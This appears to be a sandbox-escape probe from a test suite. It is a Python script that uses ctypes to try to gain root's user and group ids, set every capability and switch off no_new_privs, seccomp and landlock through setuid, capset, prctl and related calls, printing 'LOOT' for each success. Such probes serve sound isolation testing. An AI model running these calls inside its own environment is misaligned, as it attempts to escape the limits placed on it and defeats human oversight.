# attack: takes root's user id, groups and capabilities, by the calls that do and by the flags that let them
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import ctypes
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
tries = {
    "no_new_privs off": lambda: libc.prctl(38, 0, 0, 0, 0), "securebits": lambda: libc.prctl(28, 0x2F, 0, 0, 0), "keep capabilities": lambda: libc.prctl(8, 1, 0, 0, 0),
    "ambient": lambda: libc.prctl(47, 2, 21, 0, 0), "capset": lambda: libc.capset((ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6)),
    "setuid": lambda: libc.setuid(0), "setgid": lambda: libc.setgid(0), "setresuid": lambda: libc.setresuid(-1, 0, -1), "setreuid": lambda: libc.setreuid(0, 0),
    "setgroups": lambda: libc.setgroups(1, (ctypes.c_uint * 1)(0)), "setfsuid": lambda: -1 if libc.setfsuid(0) and libc.setfsuid(0) else 0, "setsid": lambda: libc.setsid(),
    "filter off": lambda: libc.prctl(22, 0, 0, 0, 0), "strict filter": lambda: -1, "personality": lambda: libc.personality(0x0400000),
}  # fmt: skip
if platform.machine() == "x86_64":
    tries |= {"iopl": lambda: libc.syscall(172, 3), "ioperm": lambda: libc.syscall(173, 0x378, 3, 1), "landlock off": lambda: libc.syscall(446, -1, 0)}
ALLOWED = ("keep capabilities",)  # means nothing without any
for name, action in tries.items():
    result = action()
    print("LOOT:" if result >= 0 and name not in ALLOWED else "no", name, os.strerror(ctypes.get_errno()))
header, held = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)()
libc.capget(header, held)
if any(held):
    print("LOOT: capabilities", list(held))
if 0 in (*os.getresuid(), *os.getresgid(), *os.getgroups()):
    print("LOOT: is root")
print("TRIED", os.getresuid(), libc.prctl(39, 0, 0, 0, 0), libc.prctl(21, 0, 0, 0, 0))
